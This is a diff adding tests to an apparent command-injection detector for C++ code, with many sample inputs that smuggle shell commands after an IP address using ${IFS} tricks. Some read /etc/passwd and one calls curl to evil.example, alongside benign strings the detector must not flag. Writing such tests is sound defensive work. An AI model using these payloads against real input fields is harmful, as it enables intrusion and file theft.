@@ -34,6 +34,21 @@ TEST_CASE("commands in the grammar of a shell are seen, however they are spelled
   }
 }
 
+TEST_CASE("a blank that is spelled stands in front of a command as well") {
+  for (const char* text :
+       {"8.8.8.8;${IFS}id", "8.8.8.8&&${IFS}id", "8.8.8.8|${IFS}id", "8.8.8.8%3b${IFS}id",
+        "8.8.8.8 ; ${IFS}curl${IFS}evil.example", "8.8.8.8;${IFS}cat${IFS}/etc/passwd",
+        "8.8.8.8;$IFS$9cat /etc/passwd", "8.8.8.8;$IFS${IFS}id", "8.8.8.8; {id,}"}) {
+    CAPTURE(text);
+    CHECK(severity(text, Field::kPlace) >= "1");
+  }
+  for (const char* text : {"${name};${host}", "a; ${title}", "x;$IFSX", "${IFS}",
+                           "id;${name} first", "import {id,} from", "{id,name}", "a;{title,}"}) {
+    CAPTURE(text);
+    CHECK(severity(text) == "-");
+  }
+}
+
 TEST_CASE("what a host is named is no list") {
   for (const char* text : {"web|id", "main;id", "db;ls", "a;whoami;b"}) {
     CAPTURE(text);
@@ -55,8 +70,27 @@ TEST_CASE("options that run a program are seen where no option is asked for") {
     CHECK(severity(text) >= "1");
     CHECK(severity(text, Field::kOptions) == "-");
   }
-  for (const char* text : {"-oProxyCommand", "--upload-pack", "-o out.txt", "--format=%h",
-                           "ext::", "extra::x", "run tar with --to-command=cat"})
+  for (const char* text : {"-oProxyCommand",
+                           "--upload-pack",
+                           "-o out.txt",
+                           "--format=%h",
+                           "ext::",
+                           "extra::x",
+                           "run tar with --to-command=cat",
+                           "--cached",
+                           "--staged",
+                           "--stat HEAD~1",
+                           "-- src",
+                           "--output=json",
+                           "--output=",
+                           "--output",
+                           "--no-index-file",
+                           "--ext-difference",
+                           "--exec",
+                           "git@github.com:a/b",
+                           "ssh://git@host.example/-x",
+                           "a@-b",
+                           "://-"})
     CHECK(severity(text) == "-");
 }
 
